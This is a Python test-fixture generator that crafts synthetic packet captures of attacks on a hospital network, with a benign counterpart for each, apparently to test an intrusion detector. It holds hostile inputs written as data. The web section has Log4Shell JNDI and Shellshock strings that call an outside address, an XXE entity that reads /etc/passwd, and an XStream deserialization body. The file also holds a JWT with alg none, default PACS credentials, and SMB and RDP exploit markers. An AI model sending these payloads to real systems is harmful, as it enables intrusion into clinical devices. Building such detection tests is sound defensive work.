# SPDX-License-Identifier: Apache-2.0
"""Headers of IP and TCP that attack embedded stacks; Windows; web; infrastructure.
Shapes only: nothing here works as an exploit."""
import os
import struct

from hosts import (ANALYZER, ANALYZER2, ENGINE, LIS, MONITOR, MONITOR2, NEIGHBOUR, OUTSIDE, PACS,
                   PUMP, ROGUE, SCANNER, SERVICE)
from make_device import http, one
from wire import ACK, PSH, SYN, URG, Wire, ip_header, readdress, tcp_segment

PCAPS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
MSS = b"\x02\x04\x05\xb4"


def segment(flags=SYN, options=MSS, data=b"", urgent=0, ip_options=b""):
    wire = Wire()
    wire.ip(ROGUE, MONITOR, 6, tcp_segment(ROGUE, MONITOR, 40000, 23, 1000, 5000 if flags & ACK
                                           else 0, flags, data, options, urgent),
            options=ip_options)
    return wire


def in_talk(data, flags, urgent):
    wire = Wire()
    talk = wire.talk(ROGUE, MONITOR, 23, close=False)
    talk.send(">", flags, data, urgent=urgent)
    talk.seq[">"] += len(data)
    talk.close()
    return wire


def stacks():
    inner = ip_header(ROGUE, MONITOR, 17, struct.pack("!HHHH", 40000, 53, 16, 0) + b"12345678")
    wire = Wire()
    wire.ip(ROGUE, MONITOR, 4, inner)
    yield "ip-in-ip", wire
    wire = Wire()
    whole = struct.pack("!HHHH", 40000, 53, 40, 0) + bytes(32)
    inner = [ip_header(ROGUE, MONITOR, 17, whole[:24], ident=7, frag=0x2000),
             ip_header(ROGUE, MONITOR, 17, whole[24:], ident=7, frag=3)]
    for part in inner:
        wire.ip(ROGUE, MONITOR, 4, part)
    yield "ip-in-ip-fragments", wire
    udp = struct.pack("!HHHH", 40000, 9999, 16, 0x1234) + b"12345678"
    a, b = "fd00::66", "fd00::11"
    for name, kind in (("", 0), (".not", 2)):
        route = struct.pack("!BBBBI", 17, 2, kind, 0, 0) + bytes(15) + b"\1"
        wire = Wire()
        wire.ip(a, b, 43, route + udp)
        yield "ipv6-routing-type" + name, wire
    yield "icmp-mask", one("icmp", ROGUE, MONITOR, 18, 0, bytes.fromhex("00010001ffffff00"))
    yield "icmp-parameter", one("icmp", ROGUE, MONITOR, 12, 0, bytes(4) + ip_header(
        MONITOR, ROGUE, 17, bytes(8)))
    yield "icmp-echo-code", one("icmp", ROGUE, MONITOR, 8, 0x41, bytes(4) + b"abcdefgh")
    yield "icmp-echo-code.not", one("icmp", ROGUE, MONITOR, 8, 0, bytes(4) + b"abcdefgh")
    yield "icmp-timestamp", one("icmp", ROGUE, MONITOR, 13, 0, bytes(4) + bytes(8))
    yield "icmp-timestamp.not", one("icmp", ROGUE, MONITOR, 13, 0, bytes(4) + bytes(12))
    yield "urgent-zero", in_talk(b"abc", PSH | ACK | URG, 0)
    yield "urgent-zero.not", in_talk(b"abc", PSH | ACK | URG, 1)
    yield "urgent-past", in_talk(b"abc", PSH | ACK | URG, 900)
    yield "scan-flags", segment(0x29, b"")
    yield "scan-no-flags", segment(0, b"")
    yield "tcp-ao", segment(options=MSS + b"\x1d\x03\x01\x00")
    yield "tcp-ao.not", segment(options=MSS + b"\x1d\x10" + bytes(14))
    yield "tcp-wscale", segment(options=MSS + b"\x03\x02\x01\x01")
    yield "tcp-wscale.not", segment(options=MSS + b"\x01\x03\x03\x07")
    yield "tcp-mss-length", segment(options=b"\x02\x06\x05\xb4\x00\x00\x01\x01")
    yield "tcp-small-mss", segment(options=b"\x02\x04\x00\x30")
    yield "source-route", segment(ip_options=b"\x83\x07\x04\x0a\x4e\x02\x0b\x00")
    yield "source-route-strict", segment(ip_options=b"\x89\x07\x04\x0a\x4e\x02\x0b\x00")
    yield "source-route.not", segment(ip_options=b"\x07\x07\x04\x00\x00\x00\x00\x00")


# --- names and addresses ------------------------------------------------------

def dns_response(answers, records=1):
    name = b"\x04pump\x05local\x00"
    return struct.pack("!HHHHHH", 7, 0x8180, 1, answers, 0, 0) + name + b"\0\1\0\1" + \
        (b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\x0a\x4e\x09\1") * records


def dhcp_ack(boot, server=b"10.78.9.1"):
    body = struct.pack("!BBBBIHH", 2, 1, 6, 0, 0x1234, 0, 0) + bytes(4) + b"\x0a\x4e\x01\x0b" + \
        bytes(8) + b"\x02\x57\x0a\x4e\x01\x0b" + bytes(10) + bytes(192) + b"\x63\x82\x53\x63"
    for code, value in ((53, b"\5"), (54, b"\x0a\x4e\x09\x01"), (66, server), (67, boot)):
        body += bytes([code, len(value)]) + value
    return body + b"\xff"


def names():
    for name, count in (("", 200), (".not", 1)):
        wire = Wire()
        wire.udp(PUMP, 40000, ENGINE, 53, dns_response(0, 0)[:2] + b"\1\0" +
                 dns_response(0, 0)[4:])
        wire.udp(ENGINE, 53, PUMP, 40000, dns_response(count))
        yield "dns-counts" + name, wire
    for name, length in (("", 128), (".not", 20)):
        yield "dhcp-boot-file" + name, one("udp", ENGINE, 67, PUMP, 68,
                                           dhcp_ack(b"/boot/" + b"a" * length))
    yield "dhcp-boot-server", one("udp", ENGINE, 67, PUMP, 68, dhcp_ack(b"/b", b"b" * 80))


# --- Windows --------------------------------------------------------------------

def smb1(command, words, data=b"", status=0):
    body = b"\xffSMB" + struct.pack("<BIBH", command, status, 0x18, 0xC007) + bytes(12) + \
        struct.pack("<HHHH", 1, 0xFEFF, 1, 65) + bytes([len(words) // 2]) + words + \
        struct.pack("<H", len(data)) + data
    return struct.pack("!I", len(body)) + body


def trans2(function):
    words = struct.pack("<HHHHBBHIHHHHHBBH", 12, 0, 1, 0, 0, 0, 0, 0, 0, 12, 66, 0, 78, 1, 0,
                        function)
    return smb1(0x32, words, bytes(15))


def replace(path, change):
    """A recording with other bytes of the same length in its TCP payloads."""
    wire = readdress(path, {})
    frames = []
    for at, frame in wire.frames:
        if any(old in frame for old in change):
            for old, new in change.items():
                frame = frame.replace(old, new)
            from wire import checksum
            end = 14 + struct.unpack_from("!H", frame, 16)[0]
            frame = frame[:50] + b"\0\0" + frame[52:]
            total = checksum(frame[26:34] + struct.pack("!BBH", 0, 6, end - 34) + frame[34:end])
            frame = frame[:50] + struct.pack("!H", total) + frame[52:]
        frames.append((at, frame))
    wire.frames = frames
    return wire


def uuid(text):
    a, b, c, d, e = text.split("-")
    return struct.pack("<IHH", int(a, 16), int(b, 16), int(c, 16)) + bytes.fromhex(d + e)


NDR = uuid("8a885d04-1ceb-11c9-9fe8-08002b104860") + struct.pack("<I", 2)


def rpc_unit(kind, body):
    return struct.pack("<BBBBIHHI", 5, 0, kind, 3, 0x10, 16 + len(body), 0, 1) + body


def rpc_calls(interface, version, opnum, count=1, port=49667):
    bind = rpc_unit(11, struct.pack("<HHIBBHHBB", 4280, 4280, 0, 1, 0, 0, 0, 1, 0) +
                    uuid(interface) + struct.pack("<I", version) + NDR)
    accept = rpc_unit(12, struct.pack("<HHIH", 4280, 4280, 1, 6) + b"49667\0" +
                      struct.pack("<BBHHH", 1, 0, 0, 0, 0) + NDR)
    says = [(">", bind), ("<", accept)]
    for _ in range(count):
        says += [(">", rpc_unit(0, struct.pack("<IHH", 32, 0, opnum) + bytes(32))),
                 ("<", rpc_unit(2, struct.pack("<IHH", 4, 0, 0) + struct.pack("<I", 5)))]
    wire = Wire()
    wire.talk(ROGUE, SCANNER, port, says)
    return wire


SPOOLSS = "12345678-1234-abcd-ef00-0123456789ab"
EFSR = "df1941c5-fe89-4e79-bf10-463657acf44d"
DRSUAPI = "e3514235-4b06-11d1-ab04-00c04fc2dcd2"
NETLOGON = "12345678-1234-abcd-ef00-01234567cffb"


def windows():
    negotiate = smb1(0x72, b"", b"\x02NT LM 0.12\0")
    for name, function in (("", 14), (".not", 5)):
        wire = Wire()
        wire.talk(ROGUE, SCANNER, 445, [(">", negotiate), (">", trans2(function)),
                                        ("<", smb1(0x32, b"", status=0xC0000002))])
        yield "smb-doublepulsar" + name, wire
    for name, count in (("", 40), (".not", 10)):
        wire = Wire()
        for host in range(count):
            wire.syn(ROGUE, "10.78.3.%d" % (host + 1), 445)
        yield "smb-fanout" + name, wire
        wire = Wire()
        for port in range(count * 4):
            wire.syn(ROGUE, MONITOR, 1000 + port, answer="rst")
        yield "port-scan" + name, wire
    classic = os.path.join(PCAPS, "rdp", "classic.pcap")
    yield "rdp-bluekeep", replace(classic, {b"snddbg\0\0": b"MS_T120\0"})
    wire = Wire()
    wire.talk(SERVICE, SCANNER, 3389, [
        (">", bytes.fromhex("030000130ee000000000000100080003000000")),
        ("<", bytes.fromhex("030000130ed000001234000200080002000000"))])
    yield "rdp-nla", wire
    yield "spooler-driver", rpc_calls(SPOOLSS, 1, 89)
    yield "spooler-driver.not", rpc_calls(SPOOLSS, 1, 1)
    yield "efs-coercion", rpc_calls(EFSR, 1, 0)
    yield "directory-copy", rpc_calls(DRSUAPI, 4, 3)
    yield "directory-copy.not", rpc_calls(DRSUAPI, 4, 1)
    yield "netlogon-guessing", rpc_calls(NETLOGON, 1, 26, 40)
    yield "netlogon-guessing.not", rpc_calls(NETLOGON, 1, 26, 2)


# --- web, files ------------------------------------------------------------------

def part10(preamble):
    return preamble.ljust(128, b"\0") + b"DICM" + b"\x02\0\0\0UL\x04\0" + bytes(40)


def web():
    get = "GET / HTTP/1.1\nHost: d\nUser-Agent: "
    yield "web-log4shell", http(ROGUE, ENGINE, get + "${jndi:ldap://203.0.113.9/a}")
    yield "web-log4shell-nested", http(
        ROGUE, ENGINE, "GET /?a=${${lower:j}${lower:n}di:ldap://203.0.113.9/a} HTTP/1.1\nHost: d")
    yield "web-log4shell.not", http(ROGUE, ENGINE, get + "curl/8.5.0 ${version}")
    stow = ("POST /studies HTTP/1.1\nHost: d\nContent-Type: multipart/related; "
            'type="application/dicom"; boundary=b')
    for name, preamble in (("", b"MZ\x90\0"), (".not", b"II*\0")):
        body = b"--b\r\nContent-Type: application/dicom\r\n\r\n" + part10(preamble) + b"\r\n--b--\r\n"
        yield "dicom-polyglot" + name, http(ROGUE, PACS, stow, body)
        wire = Wire()
        wire.talk(ROGUE, PACS, 40021, [(">", part10(preamble))])
        yield "dicom-polyglot-file" + name, wire
    users = "POST /api/users HTTP/1.1\nHost: d\nContent-Type: application/xml\nX-Requested-With: OpenAPI"
    yield "mirth-xstream", http(
        ROGUE, ENGINE, users, b"<sorted-set><string>a</string><dynamic-proxy><interface>java.lang."
        b"Comparable</interface></dynamic-proxy></sorted-set>", port=8080)
    yield "mirth-xstream.not", http(SERVICE, ENGINE, users, b"<user><username>a</username></user>",
                                    port=8080)
    fhir = " HTTP/1.1\nHost: d\nAccept: application/fhir+json"
    yield "fhir-export", http(ROGUE, ENGINE, "GET /fhir/Patient/$export" + fhir)
    yield "fhir-export.not", http(ROGUE, ENGINE, "GET /fhir/Patient/17" + fhir)
    yield "fhir-order-delete", http(ROGUE, ENGINE, "DELETE /fhir/MedicationRequest/17" + fhir)
    yield "fhir-order-delete.not", http(ROGUE, ENGINE, "GET /fhir/MedicationRequest/17" + fhir)
    token = "\nAuthorization: Bearer eyJhbGciOiJ%s.eyJzdWIiOiIxIn0."
    yield "jwt-none", http(ROGUE, ENGINE, "GET /fhir/Patient/17" + fhir + token % "ub25lIn0")
    yield "jwt-none.not", http(ROGUE, ENGINE, "GET /fhir/Patient/17" + fhir + token % "IUzI1NiJ9")
    xml = "POST /fhir/Patient HTTP/1.1\nHost: d\nContent-Type: application/fhir+xml"
    yield "xml-entity", http(ROGUE, ENGINE, xml, b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')
    yield "xml-entity.not", http(ROGUE, ENGINE, xml, b"<Patient xmlns='http://hl7.org/fhir'/>")
    yield "shellshock", http(ROGUE, ENGINE, get + "() { :; }; /bin/ping -c1 203.0.113.9")
    sdc = ("POST /dev HTTP/1.1\nHost: d\nContent-Type: application/soap+xml; action=\"%s\"")
    base = "http://standards.ieee.org/downloads/11073/11073-20701-2018/"
    for name, action in (("sdc-set", "SetService/SetValue"), ("sdc-alarm", "SetService/SetAlertState"),
                         ("sdc-context", "ContextService/SetContextState"),
                         ("sdc-get", "GetService/GetMdib")):
        body = ('<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
                'xmlns:a="http://www.w3.org/2005/08/addressing"><s:Header><a:Action>' + base +
                action + "</a:Action></s:Header><s:Body/></s:Envelope>").encode()
        yield name, http(ROGUE, MONITOR, sdc % (base + action), body, port=6464)


def ftp(server_lines, client_lines, server=ENGINE):
    says = [("<", server_lines[0] + b"\r\n")]
    for ask, answer in zip(client_lines, server_lines[1:]):
        says += [(">", ask + b"\r\n"), ("<", answer + b"\r\n")]
    wire = Wire()
    wire.talk(ROGUE, server, 21, says)
    return wire


def ssh_hello(ciphers):
    lists = [b"diffie-hellman-group1-sha1", b"ssh-rsa", ciphers, ciphers, b"hmac-md5", b"hmac-md5",
             b"none", b"none", b"", b""]
    body = b"\x14" + bytes(16) + b"".join(struct.pack("!I", len(x)) + x for x in lists) + bytes(5)
    pad = 8 - (len(body) + 5) % 8 + 4
    return struct.pack("!IB", len(body) + pad + 1, pad) + body + bytes(pad)


def files():
    wire = Wire()
    wire.talk(ENGINE, MONITOR, 22, [(">", b"SSH-2.0-OpenSSH_9.2p1\r\n"),
                                    ("<", b"SSH-2.0-IntelliBridge_1.0\r\n"),
                                    ("<", ssh_hello(b"aes128-cbc,3des-cbc,arcfour"))])
    yield "ssh-weak", wire
    for name, length in (("", 300), (".not", 12)):
        yield "ftp-overlong" + name, ftp([b"220 Nucleus FTP Server (Version 1.7) ready.", b"331 ok"],
                                         [b"USER " + b"A" * length])
    for name, user in (("", b"insite"), (".not", b"radio")):
        yield "ftp-default-user" + name, ftp([b"220 ct99 FTP server (Version 5.60) ready.", b"331 Password required.",
                                              b"230 User logged in."],
                                             [b"USER " + user, b"PASS x"], SCANNER)


# --- laboratory --------------------------------------------------------------------

def astm(*records):
    says = [(">", b"\x05"), ("<", b"\x06")]
    for number, record in enumerate(records):
        text = b"%d%s\r\x03" % ((number + 1) % 8, record)
        says += [(">", b"\x02" + text + b"%02X\r\n" % (sum(text) % 256)), ("<", b"\x06")]
    return says + [(">", b"\x04")]


def lab():
    head = b"H|\\^&|||c111^Roche^1234^4.2.2|||||LIS||P|1|20251126"
    order = b"O|1|900123||^^^GLU|R"
    wire = Wire()
    wire.talk(ANALYZER, LIS, 4000, astm(head, b"P|1", b"R|1|^^^GLU|5.1|mmol/L", b"L|1|N"))
    yield "astm-results", wire
    wire = Wire()
    wire.talk(ANALYZER, LIS, 4000, astm(head.replace(b"|||c111", b"||secret|c111"), b"L|1|N"))
    yield "astm-password", wire
    for name, client in (("", ROGUE), (".not", LIS)):
        wire = Wire()
        wire.talk(client, ANALYZER, 4000, astm(b"H|\\^&|||LIS", b"P|1", order, b"L|1|N"))
        yield "astm-order" + name, wire
    for name, count in (("", 8), (".not", 2)):
        wire = Wire()
        says = [(">", b"\x05"), ("<", b"\x06")]
        for _ in range(count):
            says += [(">", b"\x021" + head + b"\r\x03FF\r\n"), ("<", b"\x15")]
        wire.talk(ANALYZER, LIS, 4000, says)
        yield "astm-naks" + name, wire
    poct = b'<%s><HDR><HDR.control_id V="1"/><HDR.version_id V="POCT1"/></HDR>%s</%s>'
    for name, client in (("", ROGUE), (".not", LIS)):
        wire = Wire()
        wire.talk(client, ANALYZER2, 3001, [(">", poct % (
            b"DTV.R01", b'<DTV><DTV.command_cd V="LOCK"/></DTV>', b"DTV.R01"))])
        yield "poct-directive" + name, wire
        wire = Wire()
        wire.talk(client, ANALYZER2, 3001, [(">", poct % (
            b"OPL.R01", b'<OPR><OPR.operator_id V="4711"/></OPR>', b"OPL.R01"))])
        yield "poct-operators" + name, wire
    wire = Wire()
    wire.talk(ROGUE, LIS, 3001, [(">", b'<?xml version="1.0"?><!DOCTYPE HEL.R01 [<!ENTITY a "b">]>' +
                                  poct % (b"HEL.R01", b"", b"HEL.R01"))])
    yield "poct-entity", wire
    wire = Wire()
    wire.talk(ANALYZER2, LIS, 3001, [(">", poct % (b"HEL.R01", b"", b"HEL.R01"))])
    yield "poct-entity.not", wire


# --- discovery -----------------------------------------------------------------------

def probe(kind, number=0, body=""):
    return ('<?xml version="1.0"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
            'xmlns:a="http://www.w3.org/2005/08/addressing" '
            'xmlns:d="http://docs.oasis-open.org/ws-dd/ns/discovery/2009/01"><s:Header><a:Action>'
            f"http://docs.oasis-open.org/ws-dd/ns/discovery/2009/01/{kind}</a:Action><a:MessageID>"
            f"urn:uuid:92ea819b-d825-4fff-a98e-{number:012x}</a:MessageID></s:Header><s:Body>"
            f"<d:{kind}>{body}</d:{kind}></s:Body></s:Envelope>").encode()


def discovery():
    for name, count in (("", 60), (".not", 5)):
        wire = Wire()
        for number in range(count):
            wire.udp(ROGUE, 50000, "239.255.255.250", 3702, probe("Probe", number))
        yield "wsd-probes" + name, wire
    hello = ('<a:EndpointReference><a:Address>urn:uuid:6f3a1e40-7d1d-11ee-b962-0242ac120002'
             '</a:Address></a:EndpointReference><d:Types xmlns:p="http://docs.oasis-open.org/ws-dd/'
             'ns/dpws/2009/01" xmlns:m="http://standards.ieee.org/downloads/11073/11073-20702-2016">'
             'p:Device m:MedicalDevice</d:Types><d:XAddrs>http://10.78.2.11:6464/dev</d:XAddrs>'
             '<d:MetadataVersion>1</d:MetadataVersion>')
    yield "sdc-cleartext", one("udp", MONITOR, 50000, "239.255.255.250", 3702,
                               probe("Hello", 1, hello))
    yield "wsd-outside", one("udp", OUTSIDE, 50000, MONITOR, 3702, probe("Probe"))
    for name, count in (("", 120), (".not", 20)):
        wire = Wire()
        for host in range(count):
            wire.icmp(ROGUE, "10.78.2.%d" % (host + 1), 8, 0, b"\0\1\0\1abcdefgh")
        yield "ping-sweep" + name, wire
        wire = Wire()
        for host in range(count):
            body = struct.pack("!HHBBH", 1, 0x800, 6, 4, 1) + b"\x02\x57\x4e\x05\x42\x00" + \
                b"\x0a\x4e\x05\x42" + bytes(6) + bytes([10, 78, 2, host + 1])
            wire.frame(b"\x02\x57\x4e\x05\x42\x00", b"\xff" * 6, 0x806, body)
        yield "arp-sweep" + name, wire


def llmnr(number, answer):
    name = b"\x06host%02d\x00" % number + b"\0\1\0\1"
    head = struct.pack("!HHHHHH", number, 0x8000 if answer else 0, 1, 1 if answer else 0, 0, 0)
    return head + name + (name + struct.pack("!IH", 30, 4) + b"\x0a\x4e\x05\x42" if answer else b"")


def guessing():
    for name, count in (("", 12), (".not", 2)):
        wire = Wire()
        for number in range(count):
            wire.udp(NEIGHBOUR, 50000 + number, "224.0.0.252", 5355, llmnr(number, False))
            wire.udp(ROGUE, 5355, NEIGHBOUR, 50000 + number, llmnr(number, True))
        yield "llmnr-responder" + name, wire
        wire = Wire()
        for _ in range(count):
            wire.talk(ROGUE, ENGINE, 21, [("<", b"220 files FTP server ready.\r\n"),
                                          (">", b"USER admin\r\n"), ("<", b"331 Password\r\n"),
                                          (">", b"PASS x\r\n"), ("<", b"530 Login incorrect.\r\n")])
        yield "ftp-guessing" + name, wire
        wire = Wire()
        refusal = (b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=d\r\n"
                   b"Content-Length: 0\r\n\r\n")
        wire.talk(ROGUE, ENGINE, 80, [
            (">", b"GET / HTTP/1.1\r\nHost: d\r\nAuthorization: Basic YTph\r\n\r\n"),
            ("<", refusal)] * (2 * count))
        yield "web-guessing" + name, wire
    login = "GET /system HTTP/1.1\nHost: d\nAuthorization: Basic "
    yield "orthanc-default", http(ROGUE, PACS, login + "b3J0aGFuYzpvcnRoYW5j", port=8042)
    yield "orthanc-default.not", http(SERVICE, PACS, login + "YWRtaW46YWRtaW4=", port=8042)
    for name, body in (("", b"\x7fELF\1\1\1" + bytes(57)), (".not", b"\x89PNG\r\n\x1a\n" + bytes(56))):
        wire = Wire()
        wire.talk(MONITOR, ROGUE, 80, [
            (">", b"GET /a HTTP/1.1\r\nHost: d\r\n\r\n"),
            ("<", b"HTTP/1.1 200 OK\r\nContent-Length: 64\r\n\r\n" + body)])
        yield "device-fetches" + name, wire


def captures():
    for maker in (guessing, stacks, names, windows, web, files, lab, discovery):
        yield from maker()
